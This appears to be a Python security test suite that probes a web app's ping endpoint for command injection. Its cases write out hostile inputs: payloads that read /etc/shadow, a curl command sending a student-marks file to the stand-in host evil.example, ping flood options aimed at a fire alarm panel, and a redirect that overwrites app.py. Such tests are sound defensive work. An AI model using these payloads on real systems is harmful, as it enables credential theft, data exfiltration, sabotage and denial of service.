from urllib.parse import quote


def send(host):
    return request(app, "GET", "/ping?host=" + quote(host))


def in_every_quoting(text):
    """The attacker does not know whether the value stands in quotes, and tries all three."""
    return (text, '"' + text + ' #', "'" + text + " #")


def reads(*hosts):
    for host in hosts:
        if "root:$6$" in send(host).body:
            return breached(True, f"the password hashes of the server, with {host!r}")
    return breached(False)


@attack("a semicolon ends the first command and starts a second", input="10.0.3.14; cat /etc/shadow")
def _():
    return reads(*("10.0.3.14" + text for text in in_every_quoting("; cat /etc/shadow")), "10.0.3.14 && cat /etc/shadow")


@attack("a pipe, and no blank at all", input="10.0.3.14|cat</etc/shadow")
def _():
    return reads(*("10.0.3.14" + text for text in in_every_quoting("|cat</etc/shadow")))


@attack("a line break is as good as a semicolon", input="10.0.3.14\\ncat /etc/shadow")
def _():
    return reads(*("10.0.3.14" + text for text in in_every_quoting("\ncat /etc/shadow")))


@attack("a command inside the name of the device, and its catch sent to the attacker", input="$(curl -d @/home/app/marks.csv https://evil.example)")
def _():
    for host in ("$(curl -d @/home/app/marks.csv https://evil.example)", "`curl -d @/home/app/marks.csv https://evil.example`"):
        send(host)
        call = next((call for call in outbox if "evil.example" in call["url"]), None)
        if call:
            return breached(True, "the marks of the students: " + "; ".join(call["body"].split()[1:]))
    return breached(False)


@attack("no second command: an option that the program never meant to give", input="-f -s 65507 alarm-panel-7.hall.example")
def _():
    body = send("-f -s 65507 alarm-panel-7.hall.example").body
    flood = next((process for process in processes if "-f" in process["args"] or "65507" in process["args"]), None)
    return breached(flood and "alarm-panel-7" in body, flood and f"a fire alarm panel flooded with packets: ping {' '.join(flood['args'])}")


@attack("a file of the program is overwritten", input="10.0.3.14 > app.py")
def _():
    before = files.read("app.py")
    for text in in_every_quoting(" > app.py"):
        send("10.0.3.14" + text)
        if files.read("app.py") != before:
            return breached(True, "the program itself, replaced by what ping printed")
    return breached(False)
